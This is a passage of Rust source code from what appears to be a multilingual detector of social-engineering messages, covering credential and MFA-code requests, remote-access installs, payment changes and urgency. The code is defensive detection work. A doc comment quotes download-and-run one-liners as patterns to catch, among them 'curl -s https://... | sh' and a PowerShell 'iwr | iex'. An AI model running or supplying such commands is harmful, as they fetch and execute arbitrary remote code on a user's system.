                    .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
            }
            // The writer saying what he cannot do ("no puedo entrar, la
            // contraseña ha caducado", "no puedo aprobar el MFA") states his
            // problem, not a negated request: what he names there is what
            // "me la podéis resetear" refers to.
            let inability = negated
                && !hypothetical
                && !reported
                && (all & (C::V_CONNECT.bit() | C::PROBLEM.bit()) != 0
                    || all & C::MODAL.bit() != 0
                        && all & bits(&[C::WRITER_SUBJECT, C::WRITER_OBJECT]) != 0)
                && all & C::ADDRESSEE.bit() == 0;
            // A clause of time that names no object ("cuando te llegue,
            // reenvíamelo", "once you get it, ...") leaves what was said
            // before it to refer to; "if something feels off" does not.
            let when = v.idx().next().is_some_and(|i| {
                matches!(
                    self.word(i),
                    "when" | "once" | "cuando" | "quand" | "lorsque" | "sobald" | "nachdem"
                )
            });
            // Nor does a negated remark on a verb that names no object ("not
            // emailed, it is too big"): it has nothing a pronoun could
            // wrongly take up. "No change needed" is about the change itself.
            let remark_on_verb = v.idx().next().is_some_and(|i| {
                toks[i].cls & C::NEGATION.bit() != 0
                    && v.idx().nth(1).is_some_and(|j| is_verb(toks[j].cls))
            });
            let bare_remark = all & objects == 0
                && (when && !negated || negated && !hypothetical && remark_on_verb);
            let next_back = if free || inability || bare_remark {
                back_from
            } else {
                clause.toks.end
            };
            // "Bitte im Portal bestätigen: https://...": after the link the
            // colon introduced, no list goes on (asides inside the opening
            // still do).
            let from_list = own.is_none()
                && carried.is_some_and(|(_, _, left, _, _)| left > 0 && free)
                && link_ends_list.is_none_or(|end| clause.toks.start < end);
            let act = own.or_else(|| {
                carried
                    .filter(|_| from_list)
                    .map(|(a, how, _, _, _)| (a, how))
            });
            // A short item near the list's opening is read with it; prose
            // that merely follows a colon is read alone.
            // Only an opening that names no object itself ("please
            // confirm:", "could he please have:") lends its verb; the items
            // stand on their own lines, the list unbroken by paragraphs.
            // Words, not the digit groups of an amount or a reference
            // ("Rechnung 5521, 9.870,00 EUR").
            // A label with its figures ("Stichtag: 30.01.") states a
            // fact; it names nothing to hand over.
            let label_and_figures = clause.toks.len() > 1
                && toks[clause.toks.start].colon
                && toks[clause.toks.start + 1..clause.toks.end]
                    .iter()
                    .all(|t| t.digits);
            let item = from_list
                && !label_and_figures
                && clause.toks.clone().filter(|&i| !toks[i].digits).count() <= LIST_ITEM_WORDS
                && toks[clause.toks.start].sep >= Sep::Line
                && carried.is_some_and(|(_, _, _, s, bare)| {
                    bare && clause.toks.start - s <= LIST_SPAN_WORDS
                        && toks[s + 1..clause.toks.start]
                            .iter()
                            .filter(|t| t.sep == Sep::Paragraph)
                            .count()
                            <= 1
                });
            // "Merci de nous indiquer votre identifiant, puis le code que
            // vous recevrez par SMS": a clause opened by a conjunction
            // that names another object before any verb or person of its
            // own goes on with the request before it.
            // Only secrets named at once ("puis le code", "sowie den
            // Code"), and no statement of what will happen ("otherwise
            // remote access will stop").
            let secrets = bits(&[C::O_CODE, C::O_CREDENTIAL, C::O_MFA]);
            let elliptic = own.is_none()
                && free
                && toks[clause.toks.start].cls & C::CONJUNCTION.bit() != 0
                && prev_asked.is_some()
                && all & C::MODAL.bit() == 0
                && v.idx()
                    .skip(1)
                    .take(3)
                    .take_while(|&i| toks[i].cls & secrets == 0)
                    .all(|i| {
                        !is_verb(toks[i].cls)
                            && toks[i].cls
                                & bits(&[
                                    C::WRITER_SUBJECT,
                                    C::THIRD_PARTY,
                                    C::ADDRESSEE,
                                    C::CONDITION,
                                ])
                                == 0
                    })
                && v.idx().skip(1).take(3).any(|i| toks[i].cls & secrets != 0);
            // "Sagen Sie mir bitte zu, dass Sie die Zahlung nach Lissabon
            // morgen anweisen", "please confirm that you can release the
            // transfer today": the ask is about what its complement names,
            // read with it as an elliptic clause is.
            let asks_complement = own.is_none() && free && complement && same_sentence;
            if (elliptic || asks_complement)
                && let Some((act, how, start)) = prev_asked
            {
                let wide = self.widened(&v, start, clause);
                requested |= self.requests(&wide, act, how);
            }
            if let Some((act, how)) = act {
                let asked = if item {
                    // The item read with the clause that asked for the list.
                    let start = carried.map_or(clause.toks.start, |(_, _, _, s, _)| s);
                    let wide = self.widened(&v, start, clause);
                    self.requests(&wide, act, how)
                } else if n > 0 && own.is_some() && self.does_that(&v) {
                    // "... to put a viewer on the lab PC. Could you
                    // handle that?": the act takes up the clause before.
                    let start = clauses[n - 1].toks.start;
                    let wide = self.widened(&v, start, clause);
                    self.requests(&wide, act, how)
                } else {
                    // "Please lock the login and hand the mailbox to ...":
                    // an imperative joined by a conjunction to the ask
                    // before it, in the same sentence, is asked as that was.
                    let how = match prev_asked {
                        Some((_, asked_how, _))
                            if how == "imperative"
                                && own.is_some()
                                && opened_by_conjunction
                                && same_sentence
                                && asked_how != "imperative" =>
                        {
                            asked_how
                        }
                        _ => how,
                    };
                    self.requests(&v, act, how)
                };
                requested |= asked;
            }
            prev_act = own.is_some();
            prev_asked = own.map(|(a, how)| (a, how, clause.toks.start));
            // A clause going on telling what someone else does has that
            // someone for its subject, unnamed.
            prev_subject = goes_on_telling
                || all & bits(&[C::WRITER_SUBJECT, C::THIRD_PARTY, C::BENEFICIARY]) != 0;
            // "The utility from our call: https://...": what follows the
            // colon is the link, not a list of the writer's plans.
            let hands_link = clause.toks.end > clause.toks.start && toks[clause.toks.end - 1].link;
            // "..., damit ich den Fehler abstellen kann:", "so that I can fix
            // it:": the writer's purpose, and the steps after it the reader's.
            let purpose = v.idx().next().is_some_and(|i| {
                toks[i].cls & C::PURPOSE.bit() != 0
                    || matches!(self.word(i), "damit" | "afin" | "so")
            });
            writers_list = if opens_list
                && own.is_none()
                && all & C::WRITER_SUBJECT.bit() != 0
                && !hands_link
                && !purpose
            {
                6
            } else {
                writers_list.saturating_sub(1)
            };
            link_ends_list = match (own, carried) {
                (Some(_), _) if opens_list => hands_link.then_some(clause.toks.end),
                (Some(_), _) => None,
                _ => link_ends_list,
            };
            carried = match (own, carried) {
                // A verb that names its object itself ("bitte überweisen:",
                // "please wire:") still leaves the object to the items when
                // it is asked for in words; a bare one may be a noun ("quick
                // update on year-end:").
                (Some((a, how)), _) if opens_list => {
                    // "Please put them on our file exchange:": a
                    // pronoun leaves the object to the list after it.
                    let pronoun_object = v.idx().any(|i| {
                        matches!(
                            self.word(i),
                            "them" | "these" | "those" | "les" | "los" | "las"
                        )
                    });
                    let names_object = !pronoun_object
                        && v.idx().any(|i| {
                            toks[i].cls & objects != 0
                                && (how == "imperative" || !is_verb(toks[i].cls))
                        });
                    Some((a, how, 6, clause.toks.start, !names_object))
                }
                (Some(_), _) => None,
                // "Bitte lesen Sie: wir verlangen nie ...". A negated
                // statement under the opening is what it asks to note; the
                // list ends there.
                (None, Some((a, how, left, s, bare))) if left > 1 && !negated => {
                    Some((a, how, left - 1, s, bare))
                }
                _ => None,
            };
            if free && self.declared(&v) {
                requested = true;
            }
            back_from = next_back.max(clauses[n.saturating_sub(2)].toks.start);
        }
        self.install_lets_writer_in(clauses);
        self.download_and_run(clauses);
        self.structured(clauses);
        self.lures(clauses, phone_at, &flags, requested);
        self.pressure_apart(clauses);
    }

    /// Time pressure said in a sentence of its own: "The points lapse in 48
    /// hours.", "The old account will be closed on 15 December.", "Your
    /// files are archived in 2 days." Once the message asks for
    /// something risky or baits the reader, a deadline or a loss with a
    /// date on it, said plainly by the writer, presses that ask wherever
    /// it stands.
    fn pressure_apart(&mut self, clauses: &[Clause]) {
        let lured = self.found.iter().any(|f| {
            matches!(
                f.category,
                RiskCategory::RewardLure
                    | RiskCategory::FreeUpgrade
                    | RiskCategory::JobOffer
                    | RiskCategory::CallbackBait
                    | RiskCategory::FakeTechSupport
            )
        });
        let asked = self.found.iter().any(|f| f.category.is_high_risk_request());
        if !(lured || asked)
            || self
                .found
                .iter()
                .any(|f| f.category == RiskCategory::Urgency)
        {
            return;
        }
        let toks = self.toks;
        // A date or a span of time: "Friday", "30 November", "in 24 hours".
        let dated = |i: usize| {
            toks[i].cls & (C::DEADLINE.bit() | C::DAY_NAME.bit()) != 0
                || toks[i].digits
                    && toks
                        .get(i + 1)
                        .is_some_and(|n| n.cls & C::TIME_UNIT.bit() != 0)
        };
        let plain = bits(&[C::CONDITION, C::NEGATION, C::THIRD_PARTY, C::WARNING]);
        for clause in clauses {
            let v = View::of_clause(toks, self.visible, clause);
            if v.all() & plain != 0 {
                continue;
            }
            // A deadline ("before Sunday", "bis Freitag"), or a loss with
            // a date ("closes Friday", "wird zum Monatsende gesperrt").
            // "Bis", "hasta", "jusqu'au" say how long a thing lasts ("access
            // until 18 December", "away until the 6th"): on an ask that is
            // its term; on an offer it is the offer running out.
            let deadline = v
                .first(C::DEADLINE)
                .filter(|&d| lured || !matches!(self.word(d), "bis" | "hasta" | "jusqu'au"));
            let loss = v.first(C::THREAT).filter(|_| v.idx().any(dated));
            if let Some(at) = deadline.or(loss) {
                let why = format!("\"{}\" said apart from the ask", self.word(at));
                self.push(RiskCategory::Urgency, why, &clause.toks, None);
                return;
            }
        }
    }

    /// A program the reader is asked to install, through which the
    /// writer's side then works from afar ("once it runs, our desk dials
    /// in", "danach kümmern wir uns aus der Ferne um den Rest", "luego lo
    /// ajustamos nosotros en remoto"): the install opens a remote session.
    fn install_lets_writer_in(&mut self, clauses: &[Clause]) {
        let toks = self.toks;
        let found = |r: &Self, c: RiskCategory| r.found.iter().any(|f| f.category == c);
        if !found(self, RiskCategory::SoftwareInstall) || found(self, RiskCategory::RemoteAccess) {
            return;
        }
        const CONNECTS: &[&str] = &[
            "connect",
            "remote ",
            "take over",
            "take control",
            "dial in",
            "verbind",
            "aufschalt",
            "draufschalt",
            "einw",
            "se connect",
            "nous connect",
            "prendre la main",
            "prendre le contr",
            "conect",
            "tomar el control",
        ];
        let classes = |c: &Clause| View::of_clause(toks, self.visible, c).all();
        let writers_side = |all: Classes| {
            all & C::WRITER_SUBJECT.bit() != 0
                || all & C::SUPPORT_ROLE.bit() != 0 && all & C::WRITER_OWN.bit() != 0
        };
        for (n, clause) in clauses.iter().enumerate() {
            let v = View::of_clause(toks, self.visible, clause);
            let all = v.all();
            // "Our desk staff | dial in afterwards": the subject may stand
            // in the clause before, in the same sentence.
            let before = n
                .checked_sub(1)
                .map(|p| &clauses[p])
                .filter(|p| p.sentence == clause.sentence)
                .map_or(0, classes);
            if !(writers_side(all) || writers_side(before))
                || all & (C::NEGATION.bit() | C::CONDITION.bit()) != 0
                || self.told_as_done(&v)
            {
                continue;
            }
            // The stem of "remotely" is the adjective's too: a job
            // advertised as remote says nothing of a session.
            let from_afar = v
                .idx()
                .find(|&i| {
                    toks[i].cls & C::REMOTELY.bit() != 0 && {
                        let w = self.word(i);
                        w.contains(' ') || matches!(w, "remotely" | "remotamente" | "ferngesteuert")
                    }
                })
                .or_else(|| {
                    v.idx().find(|&i| {
                        toks[i].cls & C::V_CONNECT.bit() != 0
                            && CONNECTS.iter().any(|c| self.word(i).starts_with(c))
                    })
                });
            if let Some(r) = from_afar {
                let why = format!(
                    "the program lets the writer's side in: \"{}\"",
                    self.word(r)
                );
                self.push(RiskCategory::RemoteAccess, why, &clause.toks, None);
                return;
            }
        }
    }

    /// A command line that fetches a program or script from the web and
    /// runs it (`powershell -c "iwr https://... | iex"`, `curl -s
    /// https://... | sh`, `mshta https://...`): whoever pastes it into a
    /// prompt installs what the writer chose, whatever the words around it
    /// say. Shown whole in quotation marks, or in a clause told as someone
    /// else's words, as never asked or as a supposition, it asks nothing.
    fn download_and_run(&mut self, clauses: &[Clause]) {
        let toks = self.toks;
        if self
            .found
            .iter()
            .any(|f| f.category == RiskCategory::SoftwareInstall)
        {
            return;
        }
        for i in 0..toks.len() {
            // The address follows the tool, its options between. Looked
            // for first: most words have no link after them.
            let Some(link) = (i..toks.len().min(i + 4)).find(|&j| toks[j].link) else {
                continue;
            };
            let Some(runs_itself) = fetcher(self.word(i)) else {
                continue;
            };
            let launcher = (i.saturating_sub(4)..i)
                .rev()
                .find(|&j| runs_code(self.word(j)));
            let runner = (link + 1..toks.len().min(link + 4))
                .find(|&j| runs_code(self.word(j)) || is_executable(self.word(j)));
            let runs = runs_itself || launcher.is_some() || runner.is_some();
            let shown = toks[i].quoted && launcher.is_none_or(|j| toks[j].quoted);
            let at = toks[i].start;
            let set_apart = |spans: &[Range<usize>]| spans.iter().any(|s| s.contains(&at));
            if !runs
                || shown
                || set_apart(&self.muted)
                || set_apart(&self.described)
                || set_apart(&self.scenes)
            {
                continue;
            }
            let Some(clause) = clauses.iter().find(|c| c.toks.contains(&i)) else {
                continue;
            };
            // Shown through the runner after the address, or the address.
            let rest = &self.buffer[toks[link].end..];
            let address = rest.trim_start();
            let address_end = self.buffer.len() - address.len()
                + address
                    .find([' ', SEGMENT_SEPARATOR])
                    .unwrap_or(address.len());
            let end = runner.map_or(address_end, |j| toks[j].end);
            let command = &self.buffer[toks[launcher.unwrap_or(i)].start..end];
            self.push(
                RiskCategory::SoftwareInstall,
                format!("a command that fetches a program from the web and runs it: \"{command}\""),
                &clause.toks,
                None,
            );
            return;
        }
    }

    /// A list taken up by a pronoun from an earlier sentence names its
    /// people or pay just before it there: "the whole staff roster ...
    /// mail it to me".
    fn of_people_taken_up(&self, v: &View<'_>, ob: usize) -> bool {
        !v.range.contains(&ob)
            && (ob.saturating_sub(3)..ob)
                .any(|j| self.toks[j].cls & (C::O_PEOPLE.bit() | C::O_PAYROLL.bit()) != 0)
    }

    /// The word at `j` pays: a verb of paying, or English "paid", which
    /// the stemmer does not take back to "pay" (and which, as a verb of
    /// its own, would read "paid this morning" as an order).
    fn pays(&self, j: usize) -> bool {
        self.toks[j].cls & C::V_PAY.bit() != 0 || self.word(j) == "paid"
    }

    /// Money is the subject of the obligation at `must`, with a sum, a
    /// destination or a deadline: "the balance of EUR 50,000 has to be in
    /// our escrow account", "l'argent doit arriver avant midi".
    /// Whoever pays is to move it: the reader.
    fn money_must_move(&self, v: &View<'_>, must: usize) -> bool {
        let toks = self.toks;
        // A modal of the money's own ("must", "doivent"), not "ensure".
        let modal = matches!(
            self.word(must),
            "must"
                | "has to"
                | "have to"
                | "needs to"
                | "muss"
                | "müssen"
                | "doit"
                | "doivent"
                | "devra"
                | "devront"
                | "debe"
                | "deben"
                | "debera"
                | "deberan"
        );
        // The money is the subject: no verb between it and the modal. Or
        // what is billed, paid after the modal: "all invoices must be paid
        // to: ...".
        let paid_after = v.idx().any(|j| j > must && self.pays(j));
        let money = C::O_TRANSFER.bit() | if paid_after { C::O_PAYMENT.bit() } else { 0 };
        let money_subject = v.idx().take_while(|&j| j < must).any(|j| {
            toks[j].cls & money != 0
                && v.idx()
                    .filter(|&k| k > j && k < must)
                    .all(|k| !is_verb(toks[k].cls) && toks[k].cls & C::CONJUNCTION.bit() == 0)
        });
        let all = v.all();
        modal
            && money_subject
            && (v.amount().is_some()
                || self.sentence_amount
                || v.back.clone().any(|j| toks[j].amount)
                || all & bits(&[C::O_PAY_DEST, C::O_PAYEE, C::DEADLINE_PREP, C::URGENT]) != 0)
    }

    /// "Pay it into our new account, not the old one", "an das neue
    /// Konto, nicht an das alte": a negation after the clause's predicate,
    /// before a bare noun phrase with no verb of its own, denies an
    /// alternative, not the act. Returns the negation.
    fn contrast_at(&self, v: &View<'_>) -> Option<usize> {
        let toks = self.toks;
        let neg = v.idx().find(|&i| toks[i].cls & C::NEGATION.bit() != 0)?;
        let after: Vec<usize> = v.idx().filter(|&j| j > neg).collect();
        // "..., not by email": after a preposition of means, the channel's
        // name ("email") is a noun whatever else it can be.
        let by = after
            .first()
            .is_some_and(|&j| matches!(self.word(j), "by" | "per" | "via" | "par" | "por"));
        let noun_phrase = after.first().is_some_and(|&j| {
            toks[j].cls & C::ARTICLE.bit() != 0
                || by
                || matches!(self.word(j), "an" | "a" | "to" | "auf" | "sur" | "à" | "en")
        }) && after.len() <= 6
            && after.iter().enumerate().all(|(k, &j)| {
                by && k == 1 || !is_verb(toks[j].cls) && toks[j].cls & C::MODAL.bit() == 0
            });
        // Set off by a comma: "..., not the old one"; "verlangen wir
        // niemals per E-Mail" denies the verb.
        let set_off = matches!(toks[neg].sep, Sep::Comma | Sep::Paren);
        let acted_before = set_off
            && v.idx()
                .take_while(|&i| i < neg)
                .any(|i| is_verb(toks[i].cls));
        (noun_phrase && acted_before).then_some(neg)
    }

    /// A verb of replying, which goes to the writer by itself.
    fn is_reply(&self, i: usize) -> bool {
        let w = self.word(i);
        ["repl", "respon", "antwort", "répond", "repond"]
            .iter()
            .any(|p| w.starts_with(p))
    }

    /// A short clause whose only act is a verb standing for another, with
    /// a pronoun for what was said before: "could you handle that", "kannst du
    /// das erledigen", "tu peux t'en occuper", "¿puedes hacerlo?".
    fn does_that(&self, v: &View<'_>) -> bool {
        if v.idx().nth(7).is_some() {
            return false;
        }
        let words: Vec<usize> = v.idx().collect();
        let pronoun = |i: usize| {
            matches!(
                self.word(i),
                "that"
                    | "this"
                    | "it"
                    | "das"
                    | "dies"
                    | "es"
                    | "cela"
                    | "ça"
                    | "ca"
                    | "le"
                    | "la"
                    | "eso"
                    | "esto"
            )
        };
        // The pronoun beside the verb ("do that", "das erledigen", "le
        // faire") or held by it ("hacerlo"); nothing negated ("please do
        // not shortcut this").
        words.len() <= 7
            && v.all() & ((bits(VERBS) & !C::V_PAY.bit()) | C::NEGATION.bit()) == 0
            && words.iter().enumerate().any(|(k, &i)| {
                let w = self.word(i);
                matches!(w, "hacerlo" | "hacerla")
                    || matches!(
                        w,
                        "do" | "handle" | "machen" | "erledigen" | "faire" | "hacer"
                    ) && (k > 0 && pronoun(words[k - 1])
                        || words.get(k + 1).is_some_and(|&j| pronoun(j)))
            })
    }

    /// The clause ends in a colon, or in a colon and the first item's
    /// number ("he will need:\n1. the Buyer role"): a list follows.
    fn opens_list(&self, clause: &Clause) -> bool {
        let Some(last) = clause.toks.clone().last() else {
            return false;
        };
        let t = &self.toks[last];
        t.colon
            || t.digits
                && t.stop
                && t.end - t.start <= 2
                && last > clause.toks.start
                && self.toks[last - 1].colon
                // "bis 12:00." is a time.
                && !self.toks[last - 1].digits
    }

    /// "I need Inkscape and 7-Zip on my notebook" after software was named
    /// (a subject "software request"): product names are no lexicon words,
    /// so the words right after the need, none of them known, up to "on my
    /// <machine>", are programs. Returns the first.
    fn products_needed(&self, v: &View<'_>, need: usize) -> Option<usize> {
        let software_named = self.toks[..v.range.start]
            .iter()
            .any(|t| t.cls & C::O_SOFTWARE.bit() != 0 && !t.quoted);
        if !software_named {
            return None;
        }
        let words: Vec<usize> = v.idx().filter(|&j| j > need).take(6).collect();
        let on = words
            .iter()
            .position(|&j| self.toks[j].cls & C::TOWARD.bit() != 0)?;
        let names = &words[..on];
        let machine = words.get(on + 1..on + 3)?;
        let unknown = |j: usize| self.toks[j].cls == 0 && !self.toks[j].digits;
        (names.first().is_some_and(|&j| unknown(j))
            && names
                .iter()
                .all(|&j| unknown(j) || self.toks[j].cls & C::CONJUNCTION.bit() != 0)
            && self.toks[machine[0]].cls & C::WRITER_OWN.bit() != 0
            && self.toks[machine[1]].cls & C::O_DEVICE.bit() != 0)
            .then(|| names[0])
    }

    /// "Please pass this on to whoever settles our invoices", "bitte geben
    /// Sie dies an Ihre Finanzabteilung weiter": a change of bank
    /// details told before, passed on by the reader to whoever pays. The
    /// verb's object is a word pointing back; the clauses before name a
    /// destination and say it is new or changes.
    fn change_passed_on(&self, v: &View<'_>) -> Option<(usize, usize)> {
        let toks = self.toks;
        let passes = bits(&[C::V_GIVE, C::TELL_OTHER]);
        let pointing = |j: usize| {
            matches!(
                self.word(j),
                "this" | "that" | "it" | "das" | "dies" | "cela" | "ca" | "esto" | "eso"
            )
        };
        let vb = v.idx().find(|&i| {
            toks[i].cls & passes != 0 && v.idx().any(|j| j.abs_diff(i) <= 6 && pointing(j))
        })?;
        let back: Vec<usize> = v
            .back
            .clone()
            .filter(|&j| !toks[j].covered && !toks[j].quoted && (!toks[j].aside || v.aside))
            .collect();
        let changed = back
            .iter()
            .any(|&j| toks[j].cls & (C::NEW.bit() | C::V_CHANGE.bit()) != 0);
        let dest = back
            .iter()
            .rev()
            .copied()
            .find(|&j| toks[j].cls & C::O_PAY_DEST.bit() != 0)?;
        changed.then_some((vb, dest))
    }

    /// "Hace falta que nuestra ingeniera acceda" to "vuestro equipo":
    /// the writer's side needs to connect to the reader's machine. The
    /// connecting comes after the need; the machine, the reader's, is not
    /// the verb's direct object ("connect your laptop to the dock").
    fn connect_needed(&self, v: &View<'_>, need: usize) -> Option<(usize, usize)> {
        let toks = self.toks;
        let vb = v
            .idx()
            .find(|&j| j > need && toks[j].cls & C::V_CONNECT.bit() != 0)?;
        let writers_side = v.idx().any(|j| {
            j > need
                && j < vb
                && toks[j].cls & bits(&[C::WRITER_SUBJECT, C::WRITER_OWN, C::SUPPORT_ROLE]) != 0
        }) || v.near(need, C::WRITER_SUBJECT, 3, 0).is_some();
        let machine = bits(&[C::O_HOST, C::O_DEVICE]);
        let ob = v.idx().find(|&j| {
            toks[j].cls & machine != 0
                && self.readers_own(j, v.aside)
                && (j < vb || (vb + 1..j).any(|k| toks[k].cls & C::TOWARD.bit() != 0))
        })?;
        writers_side.then_some((vb, ob))
    }

    /// A person made a user of something: a verb of creating with a named
    /// person ("Herrn Brandl", "Mrs Osei") as its object, next to it or, with
    /// the German verb last, at the clause's start; or "set him up".
    fn person_set_up(&self, v: &View<'_>) -> Option<(usize, usize)> {
        let words: Vec<usize> = v.idx().collect();
        let titled = |i: usize| self.toks[i].cls & C::TITLE.bit() != 0;
        words.iter().enumerate().find_map(|(k, &vb)| {
            let next = |n: usize| words.get(k + n).copied();
            if matches!(self.word(vb), "set" | "sign")
                && next(1).is_some_and(|p| self.toks[p].cls & C::BENEFICIARY.bit() != 0)
                && next(2).is_some_and(|u| self.word(u) == "up")
            {
                return next(1).map(|p| (vb, p));
            }
            if self.toks[vb].cls & C::V_CREATE.bit() == 0 {
                return None;
            }
            // After the verb, past "Sie" or an article: "richten Sie Herrn
            // X ein", "dar de alta a la Sra. X".
            let after = (1..=3).filter_map(next).find(|&i| titled(i)).filter(|&i| {
                (vb + 1..i).all(|j| {
                    self.toks[j].cls & bits(&[C::ADDRESSEE, C::ARTICLE, C::PRONOUN]) != 0
                        || self.word(j) == "a"
                })
            });
            // The German verb closes its clause; the person opens it.
            let before = (k + 1 == words.len())
                .then(|| words[..k.min(3)].iter().copied().find(|&i| titled(i)))
                .flatten();
            after.or(before).map(|p| (vb, p))
        })
    }

    /// The words between two tokens, not counting the second half of a
    /// multi-word unit ("set up") nor the "and" of a list of names:
    /// "create Windows, ERP and VPN accounts" has three.
    fn words_between(&self, a: usize, b: usize) -> usize {
        (a.min(b) + 1..a.max(b))
            .filter(|&j| {
                let t = &self.toks[j];
                !t.covered && t.cls & C::CONJUNCTION.bit() == 0
            })
            .count()
    }

    /// Applies the request grammar to a clause that carries a request act.
    fn requests(&mut self, v: &View<'_>, act: Act, how: &str) -> bool {
        let all = v.all();
        let has = |c: C| all & c.bit() != 0;
        // A bare imperative is how-to prose ("install the rc scripts") unless
        // it is aimed: at the writer, the reader's things, something given
        // here (a link just before counts), or now.
        let given = self.follows_link
            || v.idx()
                .any(|i| is_executable(self.word(i)) || self.toks[i].program_link);
        // A reply goes to the writer by itself: "conteste con la clave".
        let replying = self.is_reply(act.at);
        let aimed = replying
            || !(how == "imperative"
                && all
                    & bits(&[
                        C::WRITER_OBJECT,
                        C::WRITER_OWN,
                        C::ADDRESSEE,
                        C::BELOW,
                        C::URGENT,
                        C::PRONOUN,
                        C::NEW,
                    ])
                    == 0
                && v.amount().is_none()
                && !given
                && !self.program_ahead(v));
        let act_word = self.word(act.at).to_owned();
        let mut hit = false;
        let mut say = |me: &mut Self,
                       cat: RiskCategory,
                       verb: Option<usize>,
                       obj: Option<usize>,
                       extra: Option<usize>| {
            let mut why = format!("{how} \"{act_word}\"");
            for (role, i) in [("verb", verb), ("object", obj), ("direction", extra)] {
                if let Some(i) = i {
                    if role == "object" && me.toks[i].cls == 0 && me.toks[i].program_link {
                        why.push_str(&format!(
                            "; object the program linked after \"{}\"",
                            me.word(i)
                        ));
                        continue;
                    }
                    why.push_str(&format!(
                        "; {role} \"{}\" ({})",
                        me.word(i),
                        class_names(me.toks[i].cls).join("/")
                    ));
                }
            }
            me.push(cat, why, &v.range, None);
            hit = true;
        };
        let to_writer = v.first(C::WRITER_OBJECT).or_else(|| v.first(C::WRITER_OWN));
        // No verb but the act's own, asked for someone ("could he please
        // have membership of ..."): the request is its object.
        // "¿Nos lo subes a la carpeta compartida?": an act that is itself a
        // verb has its own object; the folder is where it goes.
        let verbs = v.idx().any(|i| is_verb(self.toks[i].cls));
        let object_only = !verbs
            && how != "imperative"
            && all
                & bits(&[
                    C::BENEFICIARY,
                    C::WRITER_OBJECT,
                    C::WRITER_OWN,
                    C::WRITER_SUBJECT,
                ])
                != 0;
        // "We need a ticket from your manager for the admin group", "necesita
        // la aprobación de tu responsable ...": what is needed is the
        // process named first, not an object after it.
        // The subject may stand between ("bräuchten wir die Freigabe").
        let needs_process = v
            .idx()
            .filter(|&j| j > act.at)
            .find(|&j| {
                self.toks[j].cls
                    & bits(&[
                        C::ARTICLE,
                        C::FILLER,
                        C::WRITER_SUBJECT,
                        C::WRITER_OWN,
                        C::READER_OWN,
                    ])
                    == 0
            })
            .is_some_and(|j| self.toks[j].cls & C::PROCESS.bit() != 0);
        let not_secret = has(C::NOT_SECRET);
        // "I need your password": the need's object follows it closely.
        // "Les solicitamos la base de datos de proveedores": asked for by its noun,
        // with no verb after the ask, the object is wanted as a need's is.
        // The object must follow the ask at once, past the reader and its
        // article ("ask you for ...", "asked to choose ..." are not this).
        let nominal_ask = how == "explicit ask"
            && v.idx()
                .filter(|&j| j > act.at)
                .find(|&j| {
                    self.toks[j].cls & bits(&[C::ADDRESSEE, C::ARTICLE, C::PRONOUN, C::FILLER]) == 0
                })
                .is_some_and(|j| {
                    let cls = self.toks[j].cls;
                    cls & noun_classes() != 0 && !is_verb(cls)
                });
        let need = matches!(how, "the writer's need" | "a need for someone") || nominal_ask;
        // "What is your PIN?": the fact asked for is the request, when it
        // follows the question word closely.
        let fact = how == "question for a fact";
        // Counted in the clause's own words: an aside between the need and
        // its object ("a Jorge Castillo (nuevo en ...) le deis el rol") is
        // not in the way.
        let needed = |c: C, window: usize| {
            if !v.range.contains(&act.at) {
                return v.first(c);
            }
            if needs_process {
                return None;
            }
            // Numbers (a date, a duration) are not words in the way.
            v.idx()
                .filter(|&j| j > act.at && !self.toks[j].digits)
                .take(window)
                .find(|&j| self.toks[j].cls & c.bit() != 0)
        };

        // A one-time code asked for beside the credentials ("your user
        // name, and then the code that comes up on your phone"): read
        // after them, it defeats the second factor too.
        let code_beside = (!not_secret && !has(C::O_REMOTE))
            .then(|| {
                v.pair(C::V_GIVE, C::O_CODE)
                    .map(|(_, ob)| ob)
                    .or_else(|| needed(C::O_CODE, 12).filter(|_| need))
            })
            .flatten()
            // "... den Code, der gleich in Ihrer Authenticator-App
            // erscheint": the phone may be named in a clause of its own.
            .filter(|&ob| {
                self.secret_code(
                    v,
                    ob,
                    self.code_sent || self.sentence_cls & bits(&[C::O_MFA, C::DELIVERED]) != 0,
                )
            });
        // Credentials and their parts, handed over, entered or reset.
        if let Some((vb, ob)) = v.pair(C::V_GIVE, C::O_CREDENTIAL) {
            say(
                self,
                RiskCategory::CredentialReset,
                Some(vb),
                Some(ob),
                to_writer,
            );
        } else if !not_secret
            && !has(C::O_REMOTE)
            && let Some((vb, ob)) = v.pair(C::V_GIVE, C::O_CODE).filter(|&(_, ob)| {
                // "Call +44 ...; the adviser will ask you to read out the
                // code": read out on a call to the number the message
                // gives, it is a secret.
                let told = self.code_sent
                    || v.first(C::WRITER_OBJECT).is_some()
                    || how == "explicit ask"
                        && self.number_given
                        && v.range.contains(&act.at)
                        && self.toks[act.at].cls & C::ASK.bit() != 0
                        && self.asked_on_a_call(v, act.at);
                self.secret_code(v, ob, told)
            })
        {
            // A one-time code handed over is a credential, and it defeats
            // the second factor it stands for: an MFA bypass too.
            say(
                self,
                RiskCategory::CredentialReset,
                Some(vb),
                Some(ob),
                to_writer,
            );
            say(self, RiskCategory::MfaReset, Some(vb), Some(ob), to_writer);
        } else if let Some((vb, ob)) = v.pair(C::V_CONNECT, C::O_CREDENTIAL).filter(|&(vb, ob)| {
            // A new password chosen at sign-in is the reader's own to make
            // ("al iniciar sesión tendrás que poner una contraseña nueva").
            if v.near(ob, C::NEW, 1, 1).is_some() {
                return false;
            }
            // "sign in with your password", not "an SSL connection".
            let head = self
                .word(vb)
                .split(|c: char| !is_word_char(c))
                .next()
                .unwrap_or("");
            self.langs[0] != EN || self.lexicon.is_verb_form(EN, head)
        }) {
            say(
                self,
                RiskCategory::CredentialReset,
                Some(vb),
                Some(ob),
                to_writer,
            );
        } else if let Some((vb, ob)) = v.pair(C::V_RESET, C::O_CREDENTIAL)
            && !has(C::O_MFA)
            && (v.first(C::WRITER_OWN).is_some()
                || (v.first(C::ADDRESSEE).is_none() || self.reader_asked(v))
                    && !self.readers_own(ob, v.aside))
        {
            say(
                self,
                RiskCategory::CredentialReset,
                Some(vb),
                Some(ob),
                to_writer,
            );
        } else if let Some(ob) = needed(C::O_CREDENTIAL, 5)
            .filter(|_| need)
            .or_else(|| needed(C::O_CREDENTIAL, 3).filter(|_| fact))
        {
            say(
                self,
                RiskCategory::CredentialReset,
                None,
                Some(ob),
                to_writer,
            );
        } else if !not_secret
            && let Some(ob) = needed(C::O_CODE, 5)
                .filter(|_| need)
                .or_else(|| needed(C::O_CODE, 3).filter(|_| fact))
                .filter(|&ob| {
                    // The code on the reader's token or phone, or a
